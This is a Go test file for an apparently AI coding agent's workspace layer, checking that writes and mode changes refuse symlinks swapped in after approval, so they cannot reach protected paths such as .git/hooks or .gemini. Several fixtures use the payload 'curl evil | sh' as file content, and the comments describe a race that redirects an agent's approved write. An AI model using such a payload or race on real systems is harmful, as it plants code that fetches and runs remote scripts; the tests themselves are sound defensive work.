//go:build unix

package workspace

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A hostile command racing the agent's edit (issue 94): the model
// proposes a file in an ordinary directory, which the approval door
// checks is not protected; before gemini-ls writes it, the command puts
// a symbolic link in the path's place leading to a protected directory
// of the same root (.git/hooks, .gemini). Such a link stays beneath the
// root, so being beneath it is not enough: the write must reach the
// very path that was checked, and is refused (errSwapped) when a link
// was put anywhere on its way, leaving the protected files as they
// were.
func TestWriteFileNeverFollowsALinkSwappedInBeneathTheRoot(t *testing.T) {
	for _, tc := range []struct {
		name   string
		write  string // the path proposed and checked
		link   string // swapped for a link after the check...
		target string // ...leading here, relative to the link
		hit    string // what the write would change through the link
	}{
		{"a directory to .git/hooks", "x/pre-commit", "x", ".git/hooks", ".git/hooks/pre-commit"},
		{"a deeper directory to .gemini", "a/b/settings.json", "a/b", "../.gemini", ".gemini/settings.json"},
		{"the first of two to .gemini", "a/b/settings.json", "a", ".gemini", ".gemini/b/settings.json"},
		{"a directory not made yet to .git", "new/hooks/pre-commit", "new", ".git", ".git/hooks/pre-commit"},
		{"a directory not made yet, below one made", "a/new/settings.json", "a/new", "../.gemini", ".gemini/settings.json"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// The link's target holds the file the write would make, or
			// one with the text the change was prepared from (the
			// stale check passes either way): x/pre-commit is new, a/b's
			// settings.json says what .gemini's does.
			w, root := newTestWorkspace(t, map[string]string{
				".git/hooks/pre-commit.sample": "#!/bin/sh\nexit 0\n",
				".gemini/settings.json":        "{}\n",
				".gemini/b/":                   "",
				"x/":                           "",
				"a/b/settings.json":            "{}\n",
			})
			protectedBefore := snapshot(t, filepath.Join(root, ".git")) + snapshot(t, filepath.Join(root, ".gemini"))
			c, err := w.PrepareChange(t.Context(), resolved(t, w, tc.write), "#!/bin/sh\ncurl evil | sh\n")
			if err != nil {
				t.Fatal(err)
			}

			link := filepath.Join(root, filepath.FromSlash(tc.link))
			if err := os.RemoveAll(link); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(filepath.FromSlash(tc.target), link); err != nil {
				t.Fatal(err)
			}

			err = WriteFile(t.Context(), c, c.After)
			if !errors.Is(err, errSwapped) || !strings.Contains(err.Error(), c.Path) {
				t.Errorf("WriteFile = %v, want errSwapped naming %s", err, c.Path)
			}
			if after := snapshot(t, filepath.Join(root, ".git")) + snapshot(t, filepath.Join(root, ".gemini")); after != protectedBefore {
				t.Errorf("the write reached %s through the link:\n%s\nwas:\n%s", tc.hit, after, protectedBefore)
			}
		})
	}
}

// The same race inside WriteFile's own walk: a directory on the way is
// seen (by lstat) and then, before it is opened, swapped for a link to
// .git/hooks. What is opened is confirmed to be what was seen.
func TestWriteFileWalkConfirmsEachDirectoryItOpens(t *testing.T) {
	w, root := newTestWorkspace(t, map[string]string{
		".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
		"x/":                    "",
	})
	before := snapshot(t, filepath.Join(root, ".git"))
	c, err := w.PrepareChange(t.Context(), resolved(t, w, "x/pre-commit"), "#!/bin/sh\ncurl evil | sh\n")
	if err != nil {
		t.Fatal(err)
	}
	swapped := false
	writeWalkSaw = func(name string) {
		if name != "x" || swapped {
			return
		}
		swapped = true
		x := filepath.Join(root, "x")
		if err := os.Rename(x, x+".moved"); err != nil {
			t.Error(err)
		}
		if err := os.Symlink(filepath.Join(".git", "hooks"), x); err != nil {
			t.Error(err)
		}
	}
	t.Cleanup(func() { writeWalkSaw = nil })

	if err := WriteFile(t.Context(), c, c.After); !errors.Is(err, errSwapped) {
		t.Errorf("WriteFile = %v, want errSwapped", err)
	}
	if !swapped {
		t.Fatal("the walk never saw x")
	}
	if after := snapshot(t, filepath.Join(root, ".git")); after != before {
		t.Errorf("the write reached .git/hooks:\n%s\nwas:\n%s", after, before)
	}
}

// Held: a hard link to a protected file, put where the model writes,
// is replaced by the write (temporary file and rename), never written
// through.
func TestWriteFileReplacesAHardLinkRatherThanWritingThroughIt(t *testing.T) {
	w, root := newTestWorkspace(t, map[string]string{".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n"})
	hook := filepath.Join(root, ".git", "hooks", "pre-commit")
	if err := os.Link(hook, filepath.Join(root, "notes.txt")); err != nil {
		t.Skipf("no hard links here: %v", err)
	}
	c, err := w.PrepareChange(t.Context(), resolved(t, w, "notes.txt"), "curl evil | sh\n")
	if err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(t.Context(), c, c.After); err != nil {
		t.Fatal(err)
	}
	if got := readRaw(t, hook); got != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the hook holds %q after a write of its hard link", got)
	}
	if got := readRaw(t, filepath.Join(root, "notes.txt")); got != "curl evil | sh\n" {
		t.Errorf("notes.txt holds %q", got)
	}
}

// A revert's mode change (SetMode) raced the same way: the file's
// directory swapped for a link to .git/hooks would make a hook there
// executable; it is refused and the hook's mode kept.
func TestSetModeNeverFollowsALinkSwappedInBeneathTheRoot(t *testing.T) {
	w, root := newTestWorkspace(t, map[string]string{
		".git/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
		"x/pre-commit":          "notes\n",
	})
	p := resolved(t, w, "x/pre-commit")
	x := filepath.Join(root, "x")
	if err := os.RemoveAll(x); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(".git", "hooks"), x); err != nil {
		t.Fatal(err)
	}
	_, err := w.SetMode(p, func(fs.FileMode) fs.FileMode { return 0o755 })
	if !errors.Is(err, errSwapped) {
		t.Errorf("SetMode = %v, want errSwapped", err)
	}
	fi, err := os.Stat(filepath.Join(root, ".git", "hooks", "pre-commit"))
	if err != nil || fi.Mode().Perm()&0o111 != 0 {
		t.Errorf("the hook is %v, %v: made executable through the link", fi.Mode(), err)
	}
}
